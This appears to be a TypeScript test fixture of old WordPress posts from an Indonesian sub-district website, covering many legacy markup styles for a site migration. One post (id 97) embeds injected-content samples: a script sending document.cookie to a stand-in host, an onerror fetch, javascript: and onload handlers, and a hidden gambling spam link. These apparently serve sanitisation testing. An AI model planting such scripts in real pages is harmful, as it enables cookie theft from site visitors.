/** One entry of the old website as its author left it, markup and all. */
export type OldPost = {
  id: number
  title: string
  slug: string
  /** Local time, `YYYY-MM-DD HH:MM:SS`; `future` takes a day after now. */
  date: string
  status: 'publish' | 'draft' | 'future' | 'private'
  categories?: string[]
  tags?: string[]
  author?: string
  /** Id of the attachment shown as the featured image. */
  thumbnail?: number
  content: string
  excerpt?: string
}

export const oldHome = 'http://kecslawi.contoh.example'

export const oldPosts: OldPost[] = [
  { id: 12, title: 'Kerja Bakti Jumat Bersih di Alun-Alun', slug: 'kerja-bakti-jumat-bersih', date: '2019-02-08 09:14:00', status: 'publish', categories: ['Berita'], tags: ['kerja bakti', 'kebersihan'], thumbnail: 201,
    content: `Pegawai Kecamatan Slawi bersama lima kelurahan melaksanakan kerja bakti Jumat Bersih di sekitar alun-alun.

Sebanyak 84 orang ikut. Sampah yang terkumpul diangkut dua truk.

[caption id="attachment_201" align="aligncenter" width="640"]<img class="size-large wp-image-201" src="${oldHome}/wp-content/uploads/2019/02/jumat-bersih-1024x683.jpg" alt="Pegawai menyapu" width="640" height="427" /> Pegawai menyapu trotoar[/caption]

Kegiatan ini diulang setiap Jumat pertama.` },
  { id: 19, title: 'Musrenbang Kecamatan Slawi Tahun 2019', slug: 'musrenbang-kecamatan-2019', date: '2019-02-21 15:30:00', status: 'publish', categories: ['Berita', 'Perencanaan'], tags: ['musrenbang'],
    content: `<p class="MsoNormal" style="margin-bottom:0cm;mso-pagination:none"><span lang="IN" style="font-size:12.0pt;font-family:&quot;Times New Roman&quot;,serif;mso-ansi-language:IN">Musrenbang Kecamatan Slawi dilaksanakan di pendopo dan dihadiri 110 peserta.<o:p></o:p></span></p>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View><w:Zoom>0</w:Zoom></w:WordDocument></xml><![endif]-->
<p class="MsoListParagraph" style="text-indent:-18.0pt;mso-list:l0 level1 lfo1"><span style="mso-list:Ignore">1.<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp; </span></span>Perbaikan drainase Kagok<o:p></o:p></p>
<p class="MsoListParagraph" style="text-indent:-18.0pt;mso-list:l0 level1 lfo1"><span style="mso-list:Ignore">2.<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp; </span></span>Lampu jalan Dukuhwringin<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>` },
  { id: 27, title: 'Jadwal Pelayanan Selama Bulan Ramadan', slug: 'jadwal-pelayanan-ramadan', date: '2019-05-06 07:45:00', status: 'publish', categories: ['Pengumuman'], tags: ['pelayanan'],
    content: `<strong>Senin – Kamis:</strong> pukul 08.00 – 15.00 WIB
<strong>Jumat:</strong> pukul 08.00 – 15.30 WIB

Istirahat pukul 12.00 – 12.30 WIB. Pelayanan KTP-el mengikuti jadwal Disdukcapil.` },
  { id: 33, title: 'Lomba Desa Tingkat Kecamatan: Kalisapu Juara', slug: 'lomba-desa-kalisapu-juara', date: '2019-07-18 11:20:00', status: 'publish', categories: ['Berita', 'Desa'], tags: ['lomba desa', 'Kalisapu'], thumbnail: 202,
    content: `Desa Kalisapu menjadi juara lomba desa tingkat kecamatan setelah unggul dalam administrasi dan kebersihan.

<h1>Penilaian</h1>

<table border="1" cellpadding="4"><tbody><tr><td><b>Desa</b></td><td><b>Nilai</b></td></tr><tr><td>Kalisapu</td><td>91,5</td></tr><tr><td>Dukuhsalam</td><td>88,0</td></tr><tr><td>Trayeman</td><td>86,25</td></tr></tbody></table>

Kalisapu akan mewakili Slawi di tingkat kabupaten.` },
  { id: 41, title: 'HUT RI ke-74 & Karnaval Kelurahan', slug: 'hut-ri-74-karnaval', date: '2019-08-19 08:00:00', status: 'publish', categories: ['Berita', 'Galeri'], tags: ['HUT RI', 'karnaval'],
    content: `Karnaval diikuti 32 regu dari RT, sekolah & kelompok seni.

[gallery ids="201,202,203" columns="3"]

Terima kasih kepada warga yang menjaga ketertiban.` },
  { id: 52, title: 'Pembagian Masker Kain untuk Pedagang Pasar', slug: 'pembagian-masker-pedagang', date: '2020-04-14 10:10:00', status: 'publish', categories: ['Berita'], tags: ['COVID-19', 'pasar'],
    content: `<!-- wp:paragraph -->
<p>Sebanyak 1.200 masker kain buatan penjahit Pakembaran dibagikan kepada pedagang Pasar Trayeman.</p>
<!-- /wp:paragraph -->

<!-- wp:list -->
<ul><li>600 masker dewasa</li><li>350 masker anak</li><li>250 masker cadangan</li></ul>
<!-- /wp:list -->

<!-- wp:quote -->
<blockquote class="wp-block-quote"><p>Mohon dipakai dan dicuci setiap hari.</p><cite>Camat Slawi</cite></blockquote>
<!-- /wp:quote -->` },
  { id: 58, title: 'Posko Kecamatan Tangguh', slug: 'posko-kecamatan-tangguh', date: '2020-06-22 13:05:00', status: 'publish', categories: ['Pengumuman'], tags: ['COVID-19'],
    content: `<!-- wp:paragraph -->
<p>Posko berada di aula kecamatan, buka 07.00–21.00 WIB.</p>
<!-- /wp:paragraph -->

<!-- wp:image {"id":204,"sizeSlug":"large"} -->
<figure class="wp-block-image size-large"><img src="${oldHome}/wp-content/uploads/2020/06/posko.jpg" alt="" class="wp-image-204"/><figcaption>Posko di aula</figcaption></figure>
<!-- /wp:image -->` },
  { id: 66, title: 'Bantuan Sosial Tunai Tahap III', slug: 'bst-tahap-3', date: '2020-07-09 09:00:00', status: 'publish', categories: ['Pengumuman', 'Sosial'], tags: ['bantuan sosial'],
    content: `<div style="text-align: justify;"><span style="color: #000000;"><span style="font-family: arial, helvetica, sans-serif;">Penyaluran dilakukan di Kantor Pos Slawi menurut jadwal kelurahan dan desa.</span></span></div>
<div style="text-align: justify;">&nbsp;</div>
<div style="text-align: justify;"><span style="color: #ff0000;"><strong>Tidak ada potongan dalam bentuk apa pun.</strong></span></div>` },
  { id: 71, title: 'Cara Mengurus Surat Pindah', slug: 'cara-mengurus-surat-pindah', date: '2020-11-03 14:22:00', status: 'publish', categories: ['Layanan'], tags: ['surat pindah', 'kependudukan'],
    content: `<ol>
 	<li>Datang ke desa/kelurahan dengan kartu keluarga.</li>
 	<li>Isi formulir F-1.03.</li>
 	<li>Berkas diteruskan ke Disdukcapil.</li>
</ol>
Lihat juga <a href="${oldHome}/2019/05/jadwal-pelayanan-ramadan/">jadwal pelayanan</a> dan <a href="${oldHome}/wp-content/uploads/2020/11/F-1.03.pdf">formulir F-1.03 (PDF)</a>.` },
  { id: 78, title: 'Slawi Poci City: Pawai Teh', slug: 'slawi-poci-city-pawai-teh', date: '2022-09-12 16:40:00', status: 'publish', categories: ['Berita', 'Budaya'], tags: ['teh poci', 'wisata'], thumbnail: 203, excerpt: 'Pawai teh poci dari Procot ke alun-alun.',
    content: `Pawai teh poci berjalan dari Procot ke alun-alun, diikuti kelompok dari sepuluh desa dan kelurahan.

<iframe width="560" height="315" src="https://www.youtube.com/embed/contoh-video" frameborder="0" allowfullscreen></iframe>

Pengunjung minum teh bersama sampai pukul 22.00 WIB.` },
  { id: 83, title: 'Pelatihan Hidroponik PKK Kudaile', slug: 'pelatihan-hidroponik-kudaile', date: '2022-10-05 10:00:00', status: 'publish', categories: ['Berita', 'PKK'], tags: ['PKK', 'Kudaile'],
    content: `<p><b><i>SLAWI</i></b> – Tim Penggerak PKK Kelurahan Kudaile belajar hidroponik dengan botol bekas.</p><p>&nbsp;</p><p>Peserta 35 orang. Kangkung pertama dipanen setelah 28 hari.</p><p><br></p>` },
  { id: 90, title: 'Sosialisasi Pilkades Serentak', slug: 'sosialisasi-pilkades', date: '2023-03-15 09:30:00', status: 'publish', categories: ['Pengumuman', 'Desa'], tags: ['pilkades'],
    content: `Sosialisasi tahapan pemilihan kepala desa diadakan di Dukuhwringin dan Slawi Kulon.

<ul><li>Pendaftaran pemilih<ul><li>di balai desa</li><li>di rumah ketua RT</li></ul></li><li>Penjaringan calon</li><li>Pemungutan suara</li></ul>` },
  { id: 97, title: 'Pengumuman Penting Klik di Sini', slug: 'pengumuman-penting-klik', date: '2023-05-02 02:13:00', status: 'publish', categories: ['Pengumuman'], author: 'admin',
    content: `<p>Warga dimohon memeriksa daftar pemilih di kantor desa.</p>
<script type="text/javascript">document.location='https://hadiah-gratis.example/?c='+document.cookie;</script>
<p><a href="javascript:alert(document.domain)" onclick="steal()">Klik di sini</a> <img src="x" onerror="fetch('https://hadiah-gratis.example/')"> <svg onload="alert(1)"></svg></p>
<div style="position:absolute;left:-9999px"><a href="https://slot-hoki.example/">judi daring</a></div>
<p>Daftar ditempel sampai akhir bulan.</p>` },
  { id: 104, title: 'Pembinaan RT/RW se-Kecamatan', slug: 'pembinaan-rt-rw', date: '2023-06-20 13:45:00', status: 'publish', categories: ['Berita'], tags: ['RT', 'RW'],
    content: `<p style="text-align:justify;line-height:150%"><font face="Calibri" size="3">Pembinaan diikuti 214 ketua RT/RW dari lima kelurahan. Materinya administrasi surat pengantar, keamanan lingkungan,</font><font face="Calibri" size="3"> dan pendataan penduduk.</font></p>` },
  { id: 110, title: 'Libur Bersama dan Layanan Darurat', slug: 'libur-bersama', date: '2024-04-05 08:15:00', status: 'publish', categories: ['Pengumuman'],
    content: `Kantor tutup selama libur bersama. Layanan darurat: <a href="tel:112">112</a>.` },
  { id: 115, title: 'Rapat Koordinasi Bulanan (internal)', slug: 'rapat-koordinasi-internal', date: '2024-05-13 09:00:00', status: 'private', categories: ['Internal'],
    content: `Catatan rapat internal. Tidak untuk umum.

Daftar hadir dan tugas setiap seksi terlampir pada berkas bersama.` },
  { id: 121, title: 'Draf: Profil Kelurahan Slawi Wetan', slug: '', date: '2024-06-01 10:00:00', status: 'draft', categories: ['Profil'],
    content: `Kelurahan Slawi Wetan terdiri atas ... RW dan ... RT.

(isi data dari kelurahan)` },
  { id: 122, title: 'Draf: Rekap Layanan Semester I', slug: '', date: '2024-07-02 15:10:00', status: 'draft', categories: ['Layanan'],
    content: `<table><tr><th>Layanan</th><th>Jumlah</th></tr><tr><td>Surat pengantar</td><td>1.482</td></tr><tr><td>Legalisasi</td><td>966</td></tr></table>` },
  { id: 126, title: 'Bazar Ramadan Kagok', slug: 'bazar-ramadan-kagok', date: '2025-03-07 16:00:00', status: 'publish', categories: ['Berita', 'UMKM'], tags: ['UMKM', 'Kagok'],
    content: `Bazar diikuti 41 pelaku usaha di Kelurahan Kagok, pukul 15.30–21.00 WIB.

Menu paling laris: olos, rujak teplak, dan es sagwan.` },
  { id: 131, title: 'Apel Siaga Musim Hujan', slug: 'apel-siaga-musim-hujan', date: 'future', status: 'future', categories: ['Pengumuman'], tags: ['banjir'],
    content: `Apel siaga diikuti relawan sepuluh desa dan kelurahan di halaman kecamatan, pukul 07.30 WIB.` },
]

/** Media that the export names but that can no longer be fetched. */
export const oldMedia = [
  { id: 201, title: 'jumat-bersih', parent: 12, url: `${oldHome}/wp-content/uploads/2019/02/jumat-bersih.jpg`, alt: 'Pegawai menyapu trotoar' },
  { id: 202, title: 'lomba-desa', parent: 33, url: `${oldHome}/wp-content/uploads/2019/07/lomba-desa.jpg`, alt: '' },
  { id: 203, title: 'pawai-teh', parent: 78, url: `${oldHome}/wp-content/uploads/2022/09/pawai-teh.jpg`, alt: 'Pawai membawa poci' },
  { id: 204, title: 'posko', parent: 58, url: `${oldHome}/wp-content/uploads/2020/06/posko.jpg`, alt: '' },
]
